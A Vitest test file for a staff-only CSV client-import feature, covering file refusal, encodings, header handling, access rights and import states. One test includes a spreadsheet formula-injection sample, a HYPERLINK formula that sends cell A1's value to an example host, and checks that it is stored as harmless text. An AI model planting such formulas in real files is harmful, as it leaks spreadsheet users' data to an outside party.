import { beforeAll, describe, expect, it } from "vitest";
import { clients, importKeys, importRows, imports } from "@/db/schema";
import { makeEmployee } from "@/tests/factories/employees";
import { staffCookie } from "@/tests/support/call";
import { testDatabase } from "@/tests/support/database";
import { staffWith } from "@/tests/support/people";
import { rowOf } from "@/tests/support/rows";
import { brought, checked, giveUp, map, read, run, upload } from "./importing";

const db = testDatabase();

let cookie: string;
beforeAll(async () => {
  ({ cookie } = await staffWith(["access_admin"]));
});

const refused = async (content: string | Uint8Array<ArrayBuffer>) => {
  const { status, body } = await upload({ kind: "clients", content, cookie });
  return `${status} ${body.error}`;
};
const bytes = (...values: number[]) => new Uint8Array(values);

describe("files that aren't CSV", () => {
  it("are refused with a sentence, and leave nothing behind", async () => {
    expect(await refused("")).toBe("422 The file is empty.");
    expect(await refused(bytes(0x50, 0x4b, 3, 4, 20, 0))).toMatch(/^422 This is an Excel workbook/);
    expect(await refused(bytes(0x89, 0x50, 0x4e, 0x47, 0, 1, 2))).toMatch(/^422 This isn't a CSV file/);
    expect(await refused("Id,Name\n")).toBe("422 The file has headers but no rows.");
    expect(await refused("only one\na\n")).toMatch(/^422 The file has only one column/);
    const wide = Array.from({ length: 900 }, (_, i) => `c${i}`).join(",");
    expect(await refused(`${wide}\n${wide}\n`)).toBe(
      "422 Line 1 has more than 500 columns, the most an import can have.",
    );
    // Empty cells too: what's cut off later would still have been read.
    for (const count of [500, 120_000, 3_000_000])
      expect(await refused(`Id,Name\n1,${",".repeat(count)}\n`)).toBe(
        "422 Line 2 has more than 500 columns, the most an import can have.",
      );
    expect(await refused(`Id,Name\n1,${"x".repeat(300_000)}\n`)).toMatch(
      /^422 Line 2: this line is too long/,
    );
    expect(await refused('Id,Name\n1,"never closed\n2,b\n')).toMatch(
      /^422 .*quotation mark is opened and never closed/,
    );
    expect(await refused("Id,Name\n1,a\u0000b\n")).toMatch(/^422 This isn't a CSV file/);
    expect(await db.$count(imports)).toBe(0);
    expect(await db.$count(importRows)).toBe(0);
  });
});

describe("files as programs write them", () => {
  it("are read in UTF-8 with a mark, Excel's Latin, and UTF-16 both ways; with CRLF, semicolons and quotes", async () => {
    const text = 'Id;Last name;Address\r\n1;Gagné;"12 ""Rear"" Clinton;St\r\nUnit 2"\r\n\r\n2;Noël;\r\n';
    const latin = Uint8Array.from(Buffer.from(text, "latin1"));
    const wide = Uint8Array.from(Buffer.from(`\uFEFF${text}`, "utf16le"));
    const swapped = Uint8Array.from(Buffer.from(wide).swap16());
    for (const content of [`\uFEFF${text}`, latin, wide, swapped]) {
      await db.delete(clients);
      const { id } = (await upload({ kind: "clients", content, cookie })).body;
      const found = await read(id, cookie);
      expect(found.headers).toEqual(["Id", "Last name", "Address"]);
      expect(found.samples).toEqual([
        ["1", "Gagné", '12 "Rear" Clinton;St\r\nUnit 2'],
        ["2", "Noël", ""],
      ]);
      expect(found.mapping).toEqual({ key: 0, lastname: 1, address: 2 });
    }
  });

  it("may have longer and shorter lines than headers", async () => {
    const content = "Id,Last name,Phone\n1,Ann\n2,Bea,416-555-0100,more\n";
    expect(await checked({ kind: "clients", content, cookie })).toMatchObject({ created: 2, bad: 0 });
  });

  it("may repeat a header: the second says which column it is", async () => {
    const content = "Id,Last name,Phone,Phone\n1,Ann,12,416-555-0100\n";
    const { id } = (await upload({ kind: "clients", content, cookie })).body;
    const found = await read(id, cookie);
    expect(found.headers).toEqual(["Id", "Last name", "Phone", "Phone (column 4)"]);
    expect(found.mapping).toEqual({ key: 0, lastname: 1, phone: 2 });
  });

  it("may contain formulas: they're text, complete in the database and harmless in our own files", async () => {
    const formula = '=HYPERLINK("http://example.com/?x="&A1)';
    const content = `Id,Last name,Phone,Source\n"=""0052""",Ann,"=""416-555-0100""","${formula.replaceAll('"', '""')}"\n`;
    await brought({ kind: "clients", content, cookie });
    const row = await rowOf(clients, { lastname: "Ann", phone: "416-555-0100" });
    expect(row?.source).toBe(formula);
    expect(await rowOf(importKeys, { kind: "client", key: "k:0052" })).toBeDefined();
  });
});

describe("who may import", () => {
  it("needs the access right", async () => {
    const { hrid } = await makeEmployee(db, { capabilities: ["production", "pay", "management"] });
    const given = { kind: "clients" as const, content: "Id,Name\n1,a\n" };
    expect((await upload({ ...given, cookie: await staffCookie(hrid) })).status).toBe(403);
    expect((await upload({ ...given, cookie: "" })).status).toBe(401);
  });
});

describe("an import in the wrong state", () => {
  it("isn't changed: unfinished columns, an old version, a run before the check, a second run", async () => {
    const { id } = (await upload({ kind: "clients", content: "A,B\nx,y\n", cookie })).body;
    const { version, options } = await read(id, cookie);
    expect((await map(id, cookie, { mapping: {}, options, version })).status).toBe(422);
    expect((await map(id, cookie, { mapping: { lastname: 0, company: 0 }, options, version })).status).toBe(
      422,
    );
    expect((await map(id, cookie, { mapping: { lastname: 7 }, options, version })).status).toBe(422);
    expect((await map(id, cookie, { mapping: { lastname: 0 }, options, version: 99 })).status).toBe(409);
    expect((await run(id, version, cookie)).status).toBe(409);
    expect((await giveUp(id, cookie)).status).toBe(200);
    expect((await giveUp(id, cookie)).status).toBe(200);
    expect((await map(id, cookie, { mapping: { lastname: 0 }, options, version })).body.error).toBe(
      "This import was cancelled.",
    );
    expect((await run(999_999, 1, cookie)).status).toBe(404);
  });

  it("that's done can't be cancelled", async () => {
    const done = await brought({ kind: "clients", content: "Id,Last name\n77,Done\n", cookie });
    expect((await giveUp(done.id, cookie)).status).toBe(409);
  });
});
